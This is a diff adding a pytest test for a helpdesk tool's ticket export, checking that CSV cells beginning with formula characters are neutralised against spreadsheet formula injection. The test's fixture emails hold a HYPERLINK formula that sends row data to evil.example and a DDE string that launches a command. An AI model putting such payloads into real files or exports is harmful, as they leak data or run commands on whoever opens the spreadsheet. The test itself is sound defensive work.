@@ -155,3 +155,37 @@ def test_on_a_desk_init_just_made(tmp_path: Path) -> None:
     assert [(r["key"], r["subject"], r["requester"]) for r in rows] == [
         ("SUP-1", "Printer on fire", "ann@acme.example")
     ]
+
+
+def test_attack_a_formula_in_what_a_stranger_wrote_is_text_in_the_csv_export(tmp_path: Path) -> None:
+    """A subject or a display name is whatever a stranger wrote; opened in a spreadsheet, a cell
+    starting with "=", "+", "-" or "@" is a formula (CWE-1236): HYPERLINK would carry the row's
+    other cells off with one click. The CSV cell starts with a quote; JSON keeps it as written.
+    Control: an ordinary subject is exported unchanged."""
+    assert MAILGATE
+    subprocess.run(
+        [MAILGATE, "init", "desk", "--desk-address", "support@localhost", "--key", "SUP"],
+        cwd=tmp_path,
+        env=ENV,
+        check=True,
+        capture_output=True,
+        timeout=120,
+    )
+    config = tmp_path / "desk" / "config.toml"
+    formula = '=HYPERLINK("https://evil.example/?"&D2,"Open invoice")'
+    mails = [
+        make_mail(
+            formula, sender="\"@SUM(1+1)*cmd|' /C calc'!A0\" <eve@evil.example>", to="support@localhost"
+        ),
+        make_mail("Printer on fire", sender="Ann <ann@acme.example>", to="support@localhost"),
+    ]
+    for n, raw in enumerate(mails):
+        path = tmp_path / f"{n}.eml"
+        path.write_bytes(raw)
+        mailgate(config, "ingest", str(path))
+    rows = list(csv.DictReader(io.StringIO(mailgate(config, "tickets", "export", "--format", "csv").stdout)))
+    assert rows[0]["subject"] == "'" + formula
+    assert rows[0]["requester_name"].startswith("'@SUM(")
+    assert (rows[1]["subject"], rows[1]["requester_name"]) == ("Printer on fire", "Ann")
+    data = json.loads(mailgate(config, "tickets", "export", "--format", "json").stdout)
+    assert data[0]["subject"] == formula
